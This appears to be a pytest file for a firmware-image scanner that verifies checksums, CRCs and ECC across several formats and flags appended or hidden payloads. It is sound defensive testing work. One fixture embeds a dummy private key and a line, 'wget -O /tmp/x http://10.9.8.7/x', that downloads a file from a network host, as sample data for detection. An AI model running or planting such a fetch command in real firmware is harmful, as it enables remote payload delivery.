"""Every format: a sound image keeps its promises, a damaged one does not, and what lies past the end is seen."""

import struct

import numpy as np
import pytest
from tests import firmware_images as images

from mumetal.core.artefact import Artefact
from mumetal.core.errors import BadInputError
from mumetal.core.firmware import FirmwareImage
from mumetal.scan.firmware import hwh, xilinx_crc
from mumetal.scan.firmware.inspect import UNKNOWABLE, format_of, inspect
from mumetal.scan.firmware.scanner import FirmwareScanner

HANDOFF = (
    b'<EDKSYSTEM TIMESTAMP="Mon"><SYSTEMINFO BOARD="b:zcu111:1" DEVICE="xczu28dr" NAME="d_1" PACKAGE="ffvg1517"'
    b' SPEEDGRADE="-2"/><MODULE FULLNAME="/a" VLNV="v"/></EDKSYSTEM>'
)


def look(data: bytes) -> FirmwareImage:
    return inspect(Artefact(uri="image", kind="firmware", data=data))


def broken(image: FirmwareImage) -> list[str]:
    return [p.name for p in image.promises if not p.held]


@pytest.mark.parametrize("name", sorted(images.every()))
def test_a_sound_image_is_known_and_keeps_its_promises(name: str) -> None:
    data = images.every()[name]
    assert format_of(data) == name
    image = look(data)
    assert image.format == name
    assert broken(image) == []
    assert image.size == len(data)
    assert set(UNKNOWABLE) <= set(image.unknowable)
    assert len({r.name for r in image.regions}) == len(image.regions)


def test_one_flipped_frame_bit_breaks_crc_and_ecc() -> None:
    body = bytearray(images.configuration(images.frames()))
    at = bytes(body).find(bytes.fromhex("50000194")) + 4 + 40
    body[at] ^= 1
    assert broken(look(images.bit(bytes(body)))) == ["fdri0.frame-ecc", "crc1"]


def test_a_mended_crc_leaves_the_ecc_broken() -> None:
    content = images.frames()
    content[2, 7] ^= np.uint32(4)
    image = look(images.bit(images.configuration(content)))
    assert broken(image) == ["fdri0.frame-ecc"]
    assert "1 of 4 frames differ, first 2" in next(p.detail for p in image.promises if not p.held)


def test_swapped_words_are_read_too() -> None:
    straight = images.configuration(images.frames())
    swapped = np.frombuffer(straight, ">u4").astype("<u4").tobytes()
    image = look(swapped)
    assert image.format == "xilinx-bin"
    assert ("byte-order", "swapped") in image.facts
    assert broken(image) == []


@pytest.mark.parametrize("size", [1, 2, 3, 64, 1_001])
def test_the_folded_crc_is_the_slow_one(size: int) -> None:
    words = np.random.default_rng(size).integers(0, 2**32, size, dtype=np.uint64).astype(np.uint32)
    slow = 0x1234
    for word in words:
        slow = xilinx_crc.step(slow, int(word), 2)
    assert xilinx_crc.run(0x1234, words, 2) == slow


@pytest.mark.parametrize("name", ["xilinx-bit", "elf", "uboot-legacy", "option-rom", "uboot-fit"])
def test_a_payload_past_the_end_is_seen(name: str) -> None:
    assert broken(look(images.every()[name] + b"implant!" * 8))


@pytest.mark.parametrize("name", ["option-rom", "uboot-legacy", "uboot-fit", "uefi"])
def test_a_changed_byte_breaks_the_sum(name: str) -> None:
    data = bytearray(images.every()[name])
    data[{"option-rom": 0x90, "uboot-legacy": 70, "uboot-fit": data.find(b"kernelkernel"), "uefi": 20}[name]] ^= 1
    assert broken(look(bytes(data)))


def test_a_payload_in_a_volumes_free_space_is_seen() -> None:
    data = bytearray(images.volume())
    data[2_000:2_004] = b"evil"
    assert broken(look(bytes(data))) == ["fv0.free"]


def test_boot_arguments_and_versions_are_facts() -> None:
    assert ("boot-argument", "console=ttyS0") in look(images.every()["fdt"]).facts
    assert look(images.every()["raw"]).version == "2023.01"


def test_keys_certificates_and_commands_are_facts() -> None:
    data = b"\0".join((
        b"\0" * 64, b"-----BEGIN RSA PRIVATE KEY-----\n" + b"QUJD" * 20 + b"\n-----END RSA PRIVATE KEY-----",
        b"wget -O /tmp/x http://10.9.8.7/x", b"\x30\x82\x00\x40\x30\x82\x00\x30\xa0\x03\x02\x01\x02" + bytes(80),
    ))  # fmt: skip
    kinds = {kind for kind, _ in look(data).facts}
    assert {"private-key", "command", "url", "certificate"} <= kinds


def test_ordinary_random_bytes_hold_no_facts() -> None:
    assert look(np.random.default_rng(5).bytes(300_000)).facts == ()


def test_a_hand_off_belongs_to_its_bitstream_or_not() -> None:
    body = images.configuration(images.frames())
    ours = images.bit(body, part="xczu28dr-ffvg1517-2-e", design="d_1_wrapper;UserID=0")
    image = inspect(Artefact(uri="i", data=ours), handoff=HANDOFF)
    assert image.board == "b:zcu111:1"
    assert broken(image) == []
    other = inspect(Artefact(uri="i", data=images.bit(body)), handoff=HANDOFF)
    assert broken(other) == ["hwh.part", "hwh.design"]


@pytest.mark.parametrize(
    "bad",
    [
        b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + HANDOFF,
        b"<a>" * 100,
        b"<EDKSYSTEM/>",
        b"\xff\xfe<",
    ],
)
def test_a_hand_off_with_a_document_type_or_no_device_is_refused(bad: bytes) -> None:
    with pytest.raises(BadInputError):
        hwh.parse(bad)


@pytest.mark.parametrize("name", ["xilinx-bit", "elf", "uboot-legacy", "fdt"])
def test_a_cut_image_is_refused_with_its_place(name: str) -> None:
    data = images.every()[name]
    with pytest.raises(BadInputError) as refused:
        look(data[: len(data) // 2] if name != "fdt" else data[:56] + struct.pack(">I", 7) + data[60:])
    assert refused.value.where.startswith("image@")


def test_the_scanner_names_what_does_not_hold() -> None:
    data = images.elf(extra=b"implant!" * 8)
    (found,) = FirmwareScanner().scan(Artefact(uri="fw.elf", kind="firmware", data=data))
    assert found.rule == "scan.firmware.promise"
    assert "after the last part" in found.detail
    assert not list(FirmwareScanner().scan(Artefact(uri="fw.elf", kind="firmware", data=images.elf())))
    assert not list(FirmwareScanner().scan(Artefact(uri="notes.txt", data=b"nothing here")))
